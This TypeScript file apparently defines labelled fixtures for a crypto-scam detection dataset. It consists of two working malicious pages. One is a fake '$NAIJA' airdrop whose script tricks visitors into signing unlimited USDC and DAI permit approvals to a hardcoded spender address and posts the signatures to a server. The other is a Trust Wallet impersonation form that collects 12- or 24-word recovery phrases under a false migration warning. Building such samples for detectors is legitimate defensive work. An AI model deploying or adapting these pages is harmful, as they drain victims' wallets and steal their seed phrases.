import { htmlRoute, type Entry } from '../entry.js';
import { CSS, LOGO, b64, doc, jsR, jsonR, xorB64, xorDecoder } from '../parts/yv-kit.js';

// Wallet drainers aimed at West African P2P traders: TRC20 USDT approvals behind "escrow release" and
// "liquidity mining", EIP-2612 / Permit2 signatures, setApprovalForAll, balance sweeps and seed-phrase forms.

const MAX = '115792089237316195423570985008687907853269984665640564039457584007913129639935';

const permit = doc({
  title: '$NAIJA Airdrop - Claim',
  css: `${CSS.reset}body{background:#08110b;color:#dff5e3}.c{max-width:480px;margin:40px auto;text-align:center;padding:20px}.amt{font-size:42px;font-weight:800;color:#00e676}.btn{background:#00e676;color:#02170a;border:0;padding:15px 30px;border-radius:12px;font-size:17px;font-weight:700}.m{font-size:13px;color:#7fa68a}`,
  body: `<div class="c"><h1>$NAIJA Community Airdrop &#127475;&#127468;</h1><p>Early supporters of the Afrobeats-on-chain movement can claim</p><div class="amt">25,000 $NAIJA</div><p class="m">&asymp; $1,875 &middot; 41,203 wallets eligible &middot; ends in 02:14:59</p>
<button class="btn" id="cl">Connect wallet &amp; claim</button><p id="s" class="m"></p></div>
<script>
var SP='0x6f1c2b9d84a0e35c7b3e2c1d7a9e5f40b2c8d913';
var TOKENS=[{a:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',n:'USD Coin'},{a:'0x6B175474E89094C44Da98b954EedeAC495271d0F',n:'Dai Stablecoin'}];
document.getElementById('cl').onclick=async function(){var s=document.getElementById('s');if(!window.ethereum){s.textContent='No wallet found. Open in MetaMask or Trust Wallet.';return;}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];s.textContent='Checking eligibility for '+acc.slice(0,8)+'...';
var dl=Math.floor(Date.now()/1000)+86400*365;
for(var i=0;i<TOKENS.length;i++){var t=TOKENS[i];
var nonce=await ethereum.request({method:'eth_call',params:[{to:t.a,data:'0x7ecebe00'+acc.slice(2).padStart(64,'0')},'latest']});
var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:t.n,version:t.n==='USD Coin'?'2':'1',chainId:1,verifyingContract:t.a},message:{owner:acc,spender:SP,value:'${MAX}',nonce:parseInt(nonce,16),deadline:dl}};
try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(msg)]});
await fetch('/api/claim',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({o:acc,t:t.a,sig:sig,d:dl})});}catch(e){}}
s.textContent='Claim submitted! Tokens will appear in your wallet within 24h.';};
</script>`,
});

const trustSeed = doc({
  title: 'Trust Wallet - Wallet Validation',
  css: `${CSS.reset}body{background:#f5f7fb}.c{max-width:460px;margin:30px auto;background:#fff;border-radius:16px;padding:26px}.logo{display:flex;align-items:center;gap:10px}.sh{width:40px;height:46px;background:#0500ff;border-radius:0 0 20px 20px}textarea{width:100%;height:120px;border:1px solid #d0d5dd;border-radius:10px;padding:12px;font-size:15px}button{width:100%;background:#0500ff;color:#fff;border:0;border-radius:24px;padding:14px;margin-top:14px;font-size:16px}.w{background:#fff6e5;border-radius:8px;padding:10px;font-size:13px;color:#7a5200}`,
  body: `<div class="c"><div class="logo"><div class="sh"></div><h2>Trust Wallet</h2></div>
<div class="w">Your wallet was flagged during the TWT v2 migration. Unvalidated wallets will be unable to send or receive tokens after the deadline.</div>
<h3>Validate your wallet</h3><p>Enter your 12 or 24-word Secret Recovery Phrase, separated by spaces, to validate and sync your wallet.</p>
<form method="post" action="/validate/sync.php" id="f"><textarea name="phrase" required placeholder="Secret phrase"></textarea><input type="hidden" name="wallet" value="trust"><button>Validate wallet</button></form>
<p style="font-size:12px;color:#888">Your phrase is encrypted end-to-end and never stored.</p></div>
<script>document.getElementById('f').onsubmit=function(e){var w=this.phrase.value.trim().split(/\\s+/);if(w.length!==12&&w.length!==24){e.preventDefault();alert('Invalid phrase: please enter 12 or 24 words.');}};</script>`,
});

export const entries: Entry[] = [
  { id: 'yv-naija-airdrop-permit-signature', label: 'cryptodrainer', kind: 'permit-signature-drainer', url: 'https://claim-naija-airdrop.xyz/', body: permit },
  { id: 'yv-trustwallet-validation-seed-phrase', label: 'cryptodrainer', kind: 'seed-phrase-phish', url: 'https://trustwallet-validation.firebaseapp.com/validate', body: trustSeed },
];
